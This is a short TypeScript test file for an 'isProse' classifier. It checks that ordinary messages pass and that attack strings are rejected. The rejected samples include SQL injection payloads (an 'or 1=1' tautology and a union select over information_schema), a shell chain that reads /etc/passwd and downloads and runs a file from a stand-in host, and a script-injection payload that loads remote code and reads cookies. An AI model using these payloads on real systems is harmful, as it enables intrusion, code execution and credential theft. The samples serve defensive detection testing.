import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isProse } from './prose.ts';

test('what people write for people is prose, also with code among it', () => {
  for (const text of [
    'use `select name from users` and never more. in the shell, cat notes.txt | sort gives them in order; that is all there is to say about it.',
    "dear all, it's late -- don't forget the index of chapter two; it is <b>important</b> for those who come on monday. best, mary",
  ]) {
    assert.ok(isProse(text), text);
  }
});

test('attacks are none, however many words they have, nor are a few words', () => {
  for (const text of [
    '',
    "' or 1=1--",
    'a short note',
    "1' union all select null,table_name,column_name from information_schema.columns where table_schema=database() and table_name like 'users' limit 1,1--",
    'cat /etc/passwd; wget http://example.test/x -o /tmp/x; chmod +x /tmp/x; bash /tmp/x; rm /tmp/x; id; whoami; uname -a; ps; netstat',
    '<script>var x=document.createelement("script");x.src="//example.test/x.js";document.body.appendchild(x);alert(document.cookie)</script>',
    '%'.repeat(5_000),
  ]) {
    assert.ok(!isProse(text), text);
  }
});
